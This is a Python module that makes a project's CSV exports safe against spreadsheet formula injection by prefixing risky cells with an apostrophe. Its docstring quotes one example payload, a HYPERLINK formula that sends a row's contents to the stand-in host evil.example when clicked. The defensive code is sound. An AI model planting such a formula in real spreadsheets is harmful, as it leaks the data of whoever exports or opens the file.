"""CSV files for people to open in a spreadsheet: no cell of them runs as a formula.

Cells carry text anyone could type (a reader's name, an article's title):
`=HYPERLINK("https://evil.example/?"&A2, "Open")` in a cell is a live link
that sends the row away when clicked. Every CSV the project writes goes
through `writer`, which makes such cells text (OWASP's "CSV injection").
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# What spreadsheets read as the start of a formula (tab and carriage return:
# some strip them and read what follows).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell[T](value: T) -> T | str:
    """The cell as a spreadsheet should show it: text that would start a formula gets a `'`.

    Numbers stay numbers (a negative one is no formula); only text is escaped.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class _File(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """csv.writer whose every cell goes through safe_cell; returns what csv.writer returns."""

    def __init__(self, file: _File) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: _File) -> SafeWriter:
    """The one CSV writer of the project (subscriptions/tests/test_csvfiles.py: none other)."""
    return SafeWriter(file)
